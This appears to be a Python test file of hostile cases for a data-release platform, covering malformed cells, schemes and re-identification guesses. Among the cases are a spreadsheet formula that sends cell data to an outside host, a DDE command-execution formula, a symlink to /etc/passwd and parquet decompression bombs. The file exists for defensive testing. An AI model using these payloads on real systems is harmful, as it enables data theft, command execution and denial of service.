"""Released tables that say more than cells may, schemes that are none, and guesses about people who were not asked for.

All of it is read by an isolated child; what is kept is written anew by the platform, cell by cell.
"""

from tests.hostile.model import ANONYMISED, SCORED, SYNTHETIC, Case, Outcome, private, rehearsal

INVALID = rehearsal("output_invalid")
TOO_LARGE = rehearsal("output_too_large")
_GRAMMAR = "A cell is a number, an interval of two finite numbers, declared categories or nothing; all else is refused."
_TABLE = "An isolated child reads the table, and takes declared values of the columns and rows that were asked for."
_CHILD = "An isolated child with little memory and time reads it, after its declared sizes were weighed."
_SCHEME = "At most 1,024 bytes are read, and one of three words is taken from them."
_PYARROW = "import pyarrow as pa, pyarrow.parquet as pq\n"


def _case(
    id: str, tries: str, program: str, *, game: str, stops: str, expected: Outcome = INVALID, kind: str = "defense"
) -> Case:
    whole = f'say("writing", "yes")\n{program}\n'
    return Case(id, "tables", tries, stops, program=whole, expected=expected, kind=kind, game=game)


def _anonymised(id: str, tries: str, program: str, stops: str = _GRAMMAR, expected: Outcome = INVALID) -> Case:
    return _case(id, tries, program, game=ANONYMISED, stops=stops, expected=expected)


def _invented(id: str, tries: str, program: str, stops: str = _TABLE, expected: Outcome = INVALID) -> Case:
    return _case(id, tries, program, game=SYNTHETIC, stops=stops, expected=expected)


def _guess(id: str, tries: str, program: str, stops: str = _TABLE, expected: Outcome = INVALID) -> Case:
    return _case(id, tries, program, game=ANONYMISED, stops=stops, expected=expected, kind="attack")


CASES = [
    # cells of an anonymised table
    _anonymised(
        "set-of-a-million",
        "A set of a million categories in one cell, packed small.",
        _PYARROW
        + """
many = pa.array(["{" + ",".join(f"c{number}" for number in range(10**6)) + "}"])
release_parquet(sex=pa.DictionaryArray.from_arrays(pa.array([0] * len(released()), pa.int32()), many))
""",
        stops=_CHILD,
    ),
    _anonymised(
        "set-twice",
        "A set that names one category again and again.",
        'release(sex="{" + ",".join(["female"] * 3) + "}")',
    ),
    _anonymised("set-foreign", "A set with a word of its own in it.", 'release(sex="{female, canary}")'),
    _anonymised("set-nested", "Sets in sets in sets.", 'release(sex="{" * 12 + "female" + "}" * 12)'),
    _anonymised("set-open", "A set with a quotation mark that is never closed.", "release(sex='{\"female, male}')"),
    _anonymised("interval-nan", "An interval from what is not a number.", 'release(glucose="[nan, 120)")'),
    _anonymised("interval-infinite", "An interval without an end.", 'release(glucose="[20, inf)")'),
    _anonymised("interval-huge", "An interval up to 1e99.", 'release(glucose="[20, 1e99)")'),
    _anonymised("interval-beyond", "An exponent that no number has.", 'release(glucose="[0, 1e999999)")'),
    _anonymised(
        "interval-digits", "A number of a hundred thousand digits.", 'release(records=released()[:5], age="9" * 10**5)'
    ),
    _anonymised("interval-reversed", "An interval that ends before it begins.", 'release(age="[60, 30)")'),
    _anonymised("interval-nested", "Intervals in an interval.", 'release(age="[[30, 40), [50, 60)]")'),
    _anonymised("interval-deep", "A hundred opening brackets.", 'release(age="[" * 100 + "30")'),
    _anonymised("other-digits", "Numbers in Arabic digits.", 'release(age="٣٤")'),
    _anonymised(
        "formula-in-table",
        "Cells that a spreadsheet would run as formulas.",
        "release(sex='=HYPERLINK(\"http://x/?\"&A1)')",
    ),
    _anonymised(
        "cell-of-ten-million",
        "One cell of ten million characters, packed small, which every row repeats.",
        _PYARROW
        + """
long = pa.array(["x" * 10**7])
release_parquet(sex=pa.DictionaryArray.from_arrays(pa.array([0] * len(released()), pa.int32()), long))
""",
        stops=_CHILD,
    ),
    _anonymised(
        "cell-long-csv",
        "The same as text, as long as /output allows.",
        'release(records=released()[:1], sex="x" * (6 << 20))',
        stops=_CHILD,
        expected=TOO_LARGE,
    ),
    _anonymised(
        "rows-doubled",
        "Every row twice: more rows than there are patients.",
        "release(records=2 * released())",
        stops=_TABLE,
    ),
    _anonymised("rows-none", "A table without rows.", "release(records=[])", stops=_TABLE),
    _anonymised(
        "columns-of-lists",
        "Lists of structures where a secret number should be.",
        'release_parquet(glucose=[[{"a": [1.0]}]] * len(released()))',
        stops=_TABLE,
    ),
    _anonymised(
        "columns-of-truth",
        "Truth values where a secret number should be.",
        "release_parquet(glucose=[True] * len(released()))",
        stops=_TABLE,
    ),
    _anonymised(
        "columns-of-dates",
        "Dates where a secret number should be.",
        _PYARROW + "release_parquet(glucose=pa.array([0] * len(released()), type=pa.timestamp('us')))",
        stops=_TABLE,
    ),
    _anonymised(
        "columns-of-infinity",
        "Infinite numbers in a column of plain ones.",
        'release_parquet(glucose=[float("inf")] * len(released()))',
        stops=_TABLE,
    ),
    _anonymised(
        "table-bomb",
        "Forty million rows of one dictionary's word, in a few kilobytes.",
        _PYARROW
        + """
rows = 40_000_000
codes = pa.Array.from_buffers(pa.int8(), rows, [None, pa.py_buffer(bytes(rows))])
column = pa.DictionaryArray.from_arrays(codes, pa.array(["female"]))
pq.write_table(pa.table({"sex": column}), OUTPUT / "release.parquet", compression="zstd")
write(OUTPUT / "scheme.json", '{"scheme": "same"}')
""",
        stops=_CHILD,
    ),
    _anonymised(
        "private-cells",
        "Behaves on the public sample and writes nonsense about private patients.",
        'release(**({"age": "[[[", "sex": "{" * 9} if is_private() else {}))',
        expected=private("output_invalid"),
    ),
    _anonymised(
        "all-suppressed",
        "A table of empty cells, from which no model can learn.",
        'release(scheme=\'{"scheme": "generalization"}\', age="", sex="", glucose="", diabetes="")',
        stops="It is a release like any other: models that learn nothing answer alike, and its utility is nothing.",
        expected=SCORED,
    ),
    # the scheme
    _anonymised(
        "scheme-missing", "No scheme.", "release(scheme=None)", stops=_SCHEME, expected=rehearsal("output_missing")
    ),
    _anonymised("scheme-unknown", "A scheme of its own.", 'release(scheme=\'{"scheme": "none"}\')', stops=_SCHEME),
    _anonymised("scheme-list", "A scheme that is a list.", 'release(scheme=\'{"scheme": ["same"]}\')', stops=_SCHEME),
    _anonymised(
        "scheme-more", "A scheme with a note.", 'release(scheme=\'{"scheme": "same", "note": 1}\')', stops=_SCHEME
    ),
    _anonymised("scheme-deep", "Lists five hundred deep.", 'release(scheme="[" * 500 + "]" * 500)', stops=_SCHEME),
    _anonymised(
        "scheme-deeper",
        "Lists a million deep.",
        'release(scheme="[" * 10**6 + "]" * 10**6)',
        stops=_SCHEME,
        expected=TOO_LARGE,
    ),
    _anonymised("scheme-number", "A number of a thousand digits.", 'release(scheme="9" * 1000)', stops=_SCHEME),
    _anonymised(
        "scheme-link",
        "A scheme that is a link to the host's passwords.",
        'release(scheme=None)\nos.symlink("/etc/passwd", OUTPUT / "scheme.json")',
        stops="Only regular files and folders with plain names are taken from the stream.",
    ),
    # guesses
    _guess("guess-foreign", "Guesses about people who were not asked for.", 'guesses(names=["r0123456789abcdef"])'),
    _guess(
        "guess-twice",
        "Two guesses about one person, and none about another.",
        'asked = rows("background")["row"]\nguesses(names=[asked[0], *asked[:-1]])',
    ),
    _guess(
        "guess-interval",
        "An interval that holds every answer.",
        "guesses(value='\"[0, 500]\"')",
        stops="A guess is one plain value or nothing.",
    ),
    _guess("guess-infinite", "Infinite guesses.", 'guesses(value="inf")'),
    _guess("guess-huge", "Guesses too large for a number.", 'guesses(value="1e999")'),
    _guess("guess-text", "Words for a secret number.", 'guesses(value="=1+1")'),
    _guess("guess-others", "Guesses at a column that is not secret.", 'guesses(header="row,age")'),
    _guess(
        "guess-types",
        "Truth values and lists for a secret number.",
        _PYARROW
        + """
names = rows("background")["row"]
pq.write_table(pa.table({"row": names, "glucose": [[True]] * len(names)}), OUTPUT / "guesses.parquet")
""",
    ),
    _guess(
        "guess-bomb",
        "Forty million guesses about one person, in a few kilobytes.",
        _PYARROW
        + """
codes = pa.Array.from_buffers(pa.int8(), 40_000_000, [None, pa.py_buffer(bytes(40_000_000))])
column = pa.DictionaryArray.from_arrays(codes, pa.array(rows("background")["row"][:1]))
pq.write_table(pa.table({"row": column}), OUTPUT / "guesses.parquet", compression="zstd")
""",
        stops=_CHILD,
    ),
    # invented tables
    _invented("invented-interval", "An interval where a synthetic table has numbers.", 'release(age="[20, 30)")'),
    _invented("invented-set", "A set where it has categories.", 'release(sex="{female, male}")'),
    _invented("invented-nan", "Numbers that are none.", 'release(glucose="nan")'),
    _invented("invented-infinite", "Infinite numbers.", 'release(glucose="-inf")'),
    _invented("invented-huge", "Numbers far outside the declared range.", 'release(glucose="1e300")'),
    _invented("invented-empty", "Empty cells where every row needs a value.", 'release(sex="")'),
    _invented("invented-formula", "A formula for a category.", "release(sex=\"=cmd|' /C calc'!A0\")"),
    _invented("invented-more", "More rows than were asked for.", "release(records=2 * released())"),
    _invented("invented-fewer", "Fewer rows.", "release(records=released()[1:])"),
    _invented(
        "invented-truth",
        "Truth values for a secret number.",
        "release_parquet(glucose=[True] * len(released()))",
    ),
    _invented(
        "invented-bomb",
        "Forty million rows of one dictionary's word, in a few kilobytes.",
        _PYARROW
        + """
rows = 40_000_000
codes = pa.Array.from_buffers(pa.int8(), rows, [None, pa.py_buffer(bytes(rows))])
column = pa.DictionaryArray.from_arrays(codes, pa.array(["female"]))
pq.write_table(pa.table({"sex": column}), OUTPUT / "release.parquet", compression="zstd")
""",
        stops=_CHILD,
    ),
    _invented(
        "invented-alike",
        "One patient, as many times as rows were asked for.",
        "release(records=released()[:1] * len(released()))",
        stops="It is a table like any other: models learn one answer from it, and its utility is nothing.",
        expected=SCORED,
    ),
]
